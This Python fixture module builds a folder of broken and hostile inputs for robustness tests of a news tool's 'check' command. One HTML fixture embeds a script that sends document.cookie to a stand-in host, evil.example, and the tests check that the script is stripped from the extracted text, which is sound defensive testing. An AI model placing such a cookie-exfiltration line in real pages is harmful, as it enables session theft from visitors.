"""The bad-input batch of issue #9: every kind of broken input a news folder can hold, plus two good articles.

:func:`build_batch` writes the batch into a folder and returns one :class:`Case` per input, saying what
`corroborate check` must do with it: refuse it with a one-line error containing ``expect``, or read it
(``expect`` is then None and ``must_contain`` lists words its article text must hold). Used by
tests/robustness/test_bad_inputs.py and bench/robustness.py, so the test and the benchmark try the same
inputs.
"""

from __future__ import annotations

import io
import json
import os
import random
import struct
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path

REPO = Path(__file__).resolve().parents[2]
EXAMPLES = REPO / "examples"
GOOD = ("harbour-gazette.txt", "daily-buzz.txt")  # the two good articles, from the bundled examples
MB = 1024 * 1024
_WORDS = ("harbour", "ferry", "crew", "captain", "port", "island", "council", "river", "bridge", "minister",
          "storm", "tide", "quay", "boat", "engine", "repairs", "reopened", "passengers", "coastguard")


@dataclass(slots=True)
class Case:
    """One input of the batch and the outcome `check` owes it."""

    name: str  # the file name inside the batch folder (or the missing path's name)
    what: str  # a few words for the benchmark table
    expect: str | None  # a substring of the one-line error; None: the input must be read as an article
    must_contain: tuple[str, ...] = ()  # words the article's text must contain when it is read
    must_not_contain: tuple[str, ...] = ()  # text that must never reach the article (scripts, iframes)
    errors: int = 1  # stderr lines naming this path (a JSONL file has one per bad line)
    path: Path | None = field(default=None)  # set by build_batch


def png_bytes() -> bytes:
    """A real, valid 2x2 PNG image."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    raw = b"".join(b"\x00" + b"\xff\x00\x00" * 2 for _ in range(2))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def zip_bytes() -> bytes:
    """A real zip archive holding a text article (a user zipped a folder of news by mistake)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("article.txt", "The ferry ran aground off Port Elin on Monday night.\n" * 50)
    return buf.getvalue()


def prose(n_bytes: int, *, seed: int) -> str:
    """ASCII prose of sentences and paragraphs, ``n_bytes`` long: a huge but well-formed text file.

    Over 1 MB, a 1 MB block is repeated (a dump of many copies, as mis-scrapes produce): quick to write.
    """
    if n_bytes > MB:
        block = prose(MB, seed=seed)
        return (block * (n_bytes // MB + 1))[:n_bytes]
    rng = random.Random(seed)
    parts: list[str] = []
    size = 0
    while size < n_bytes:
        sentence = " ".join(rng.choice(_WORDS) for _ in range(rng.randint(8, 25))).capitalize() + ". "
        if rng.random() < 0.2:
            sentence += "\n\n"
        parts.append(sentence)
        size += len(sentence)
    return "".join(parts)[:n_bytes]


def one_line(n_bytes: int, *, seed: int) -> str:
    """One line of words, ``n_bytes`` long, with no punctuation at all: the segmenter's worst case."""
    rng = random.Random(seed)
    words: list[str] = []
    size = 0
    while size < n_bytes:
        word = rng.choice(_WORDS)
        words.append(word)
        size += len(word) + 1
    return " ".join(words)[:n_bytes]


_ARTICLE = ("Title: Bridge reopens after storm repairs\nOutlet: river-post\nDate: 2025-03-06\n\n"
            "The old bridge over the Elin reopened on Monday after three weeks of repairs, the council said.\n\n"
            "Engineers replaced two piers that the February storm had cracked.\n")

_SCRIPTED_HTML = """<!doctype html><html><head><title>Quay lights restored</title>
<script>document.write("INJECTED-SCRIPT-TEXT"); fetch("https://evil.example/steal?c=" + document.cookie);</script>
<style>body { display: none } /* STYLE-TEXT */</style></head>
<body onload="alert('onload')"><article>
<h1>Quay lights restored</h1>
<p>The harbour authority restored the quay lights on Tuesday evening after a week of darkness.</p>
<iframe src="https://ads.example/frame">IFRAME-FALLBACK-TEXT</iframe>
<p>Fishermen had complained that unloading at night had become dangerous without them.</p>
<script type="text/javascript">var x = "SECOND-SCRIPT-TEXT";</script>
<p>The authority said a cable fault caused the outage and that it has been repaired.</p>
<noscript>NOSCRIPT-TEXT</noscript><object data="x.swf">OBJECT-TEXT</object>
</article></body></html>
"""

_BAD_RSS = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>Broken Gazette</title>
<item><title>Ferry & crew</title><description>A ferry <b>ran aground</description>
"""

_BAD_ATOM = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>Coast Wire</title>
<entry><title>Storm</title><content type="html">&lt;p&gt;Storm hits the coast
</entr></feed
"""


def _jsonl() -> tuple[str, int]:
    """One good article and four bad lines: invalid JSON, a number as text, a list as title, a bare string."""
    good = {"id": 7, "title": "Coastguard drill", "outlet": "island-herald", "published": "2025-03-07",
            "text": "The coastguard held a night rescue drill off the island on Friday, with two lifeboats."}
    lines = [json.dumps(good), '{"title": "oops", "text": "unterminated', json.dumps({"text": 42}),
             json.dumps({"text": "A fine article body about the quay.", "title": ["not", "a", "string"]}),
             json.dumps("an article body with no object around it")]
    return "\n".join(lines) + "\n", 4


def cases(*, huge_mb: int = 50, line_mb: int = 1) -> list[Case]:
    jsonl_errors = _jsonl()[1]
    return [
        Case("good-1.txt", "good article (plain text)", None, ("Port Elin",)),
        Case("good-2.txt", "good article (plain text)", None, ("ferry",)),
        Case("empty.txt", "empty file", "empty file"),
        Case("whitespace.txt", "only whitespace", "only whitespace"),
        Case("image.png", "PNG image", "binary file (PNG image)"),
        Case("archive.zip", "zip archive", "binary file (zip archive)"),
        Case("random.bin", "64 KB of random bytes", "binary file"),
        Case("invalid-utf8.txt", "UTF-8 with invalid bytes", None, ("bridge", "Elin")),
        Case("latin1.txt", "Latin-1 (French)", None, ("très", "été", "réparations")),
        Case("utf16-bom.txt", "UTF-16 with a BOM", None, ("Übergang", "bridge")),
        Case("huge.txt", f"{huge_mb} MB text file", "article too long"),
        Case("one-line.txt", f"{line_mb} MB on one line, no punctuation", "article too long"),
        Case("deep.html", "HTML nested 5,000 levels deep", "nested deeper than 256 levels"),
        Case("scripts.html", "HTML with scripts, iframes, styles, handlers", None,
             ("quay lights", "cable fault"),
             ("INJECTED", "SCRIPT-TEXT", "IFRAME", "STYLE-TEXT", "NOSCRIPT", "OBJECT-TEXT", "alert(", "fetch(")),
        # feedparser recovers the entry of a truncated RSS feed: read, with the damage noted in its meta.
        Case("malformed.rss", "truncated RSS (unclosed elements)", None, ("ran aground",)),
        Case("malformed.atom", "malformed Atom (broken end tags)", "malformed feed"),
        Case("mixed.jsonl", "JSONL: 1 good line, bad JSON, wrong field types", "line ", ("coastguard",),
             errors=jsonl_errors),
        Case("loop-a.txt", "symlink loop between two files", "symlink loop"),
        Case("loop-b.txt", "symlink loop between two files", "symlink loop"),
        Case("loopdir/back", "folder symlink to its parent", "symlink loop"),
        Case("dangling.txt", "symlink to a missing file", "broken symlink"),
        Case("unreadable.txt", "file without read permission", "permission denied"),
        Case("missing.txt", "path that does not exist", "no such file or directory"),
    ]


def build_batch(folder: Path, *, huge_mb: int = 50, line_mb: int = 1) -> list[Case]:
    """Write every case into ``folder`` (created); ``missing.txt`` is named but not written."""
    folder.mkdir(parents=True, exist_ok=True)
    out = cases(huge_mb=huge_mb, line_mb=line_mb)
    for case in out:
        case.path = folder / case.name
    for name, source in zip(("good-1.txt", "good-2.txt"), GOOD, strict=True):
        (folder / name).write_bytes((EXAMPLES / source).read_bytes())
    (folder / "empty.txt").write_bytes(b"")
    (folder / "whitespace.txt").write_bytes(b"  \n\t\n \r\n   \n")
    (folder / "image.png").write_bytes(png_bytes())
    (folder / "archive.zip").write_bytes(zip_bytes())
    (folder / "random.bin").write_bytes(random.Random(9).randbytes(64 * 1024))
    body = _ARTICLE.encode("utf-8")
    (folder / "invalid-utf8.txt").write_bytes(body.replace(b"three weeks", b"three \xff\xfe\xc3( weeks"))
    (folder / "latin1.txt").write_bytes(
        ("Titre: Le pont rouvre\n\nLe vieux pont sur l'Elin a rouvert lundi après trois semaines de réparations, "
         "très attendues depuis l'été dernier, a indiqué la mairie.\n").encode("latin-1"))
    (folder / "utf16-bom.txt").write_bytes(
        ("Title: Bridge reopens\n\nThe old bridge over the Elin reopened on Monday; the Übergang on the "
         "German side follows next week, the council said.\n").encode("utf-16"))
    (folder / "huge.txt").write_text(prose(huge_mb * MB, seed=5), encoding="ascii")
    (folder / "one-line.txt").write_text(one_line(line_mb * MB, seed=1) + "\n", encoding="ascii")
    (folder / "deep.html").write_text("<html><body>" + "<div>" * 5000 + "<p>Buried text about the harbour "
                                      "that no parser reaches.</p>" + "</div>" * 5000 + "</body></html>",
                                      encoding="utf-8")
    (folder / "scripts.html").write_text(_SCRIPTED_HTML, encoding="utf-8")
    (folder / "malformed.rss").write_bytes(_BAD_RSS)
    (folder / "malformed.atom").write_bytes(_BAD_ATOM)
    (folder / "mixed.jsonl").write_text(_jsonl()[0], encoding="utf-8")
    os.symlink("loop-b.txt", folder / "loop-a.txt")
    os.symlink("loop-a.txt", folder / "loop-b.txt")
    (folder / "loopdir").mkdir()
    os.symlink("..", folder / "loopdir" / "back")
    os.symlink("nowhere.txt", folder / "dangling.txt")
    unreadable = folder / "unreadable.txt"
    unreadable.write_text("You should not be able to read this.\n", encoding="utf-8")
    unreadable.chmod(0)
    return out


def drop_file_read_override() -> None:
    """For ``subprocess.Popen(preexec_fn=...)``: take away root's power to read any file.

    Root ignores file permissions, so an unreadable file is readable in a container running as root. This
    drops CAP_DAC_OVERRIDE and CAP_DAC_READ_SEARCH from the bounding set, so the command about to run as
    root obeys ``chmod 000`` like any user. Harmless for a non-root user (the capabilities are not held).
    """
    if os.geteuid() != 0:
        return
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    pr_capbset_drop, cap_dac_override, cap_dac_read_search = 24, 1, 2
    for cap in (cap_dac_override, cap_dac_read_search):
        if libc.prctl(pr_capbset_drop, cap, 0, 0, 0) != 0:
            raise OSError(ctypes.get_errno(), "prctl(PR_CAPBSET_DROP) failed")
